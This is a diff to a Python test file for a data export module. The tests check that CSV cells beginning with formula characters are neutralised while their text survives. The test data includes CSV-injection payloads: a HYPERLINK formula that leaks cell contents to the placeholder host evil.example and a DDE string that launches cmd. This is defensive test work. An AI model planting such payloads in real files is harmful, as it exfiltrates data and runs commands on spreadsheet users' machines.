@@ -199,7 +199,10 @@ def every_file(folder: Path) -> str:
     return "\n".join(p.read_text(encoding="utf-8") for p in sorted(folder.iterdir()))
 
 
-# OWASP CSV injection: what a spreadsheet runs when a cell starts with it.
+# OWASP CSV injection: a spreadsheet runs a cell that starts with one of these (the full-width
+# forms too, in some locales)...
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+# ... such as these.
 FORMULAS = [
     '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
     "+1+cmd|' /C calc'!A0",
@@ -234,7 +237,7 @@ def test_csv_cells_a_spreadsheet_would_run_are_text_and_jsonl_keeps_them(
         for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline=""))
         for cell in row
     ]
-    assert not [c for c in cells if c.startswith(export_module.FORMULA_START)]
+    assert not [c for c in cells if c.startswith(FORMULA_START)]
     stored = {row["reason"] for row in rows(out, "approvals")}
     assert set(FORMULAS[:5]) <= stored
     with (out / "approvals.csv").open(encoding="utf-8", newline="") as handle:
@@ -248,7 +251,7 @@ def test_no_csv_cell_starts_a_formula_and_none_loses_its_text(text):
     written = export_module._csv([{"value": text, "list": [text]}]).decode("utf-8")
     header, row = list(csv.reader(io.StringIO(written, newline="")))
     cell = dict(zip(header, row, strict=True))["value"]
-    assert not cell.startswith(export_module.FORMULA_START)
+    assert not cell.startswith(FORMULA_START)
     assert cell in (text, "'" + text)
 
 
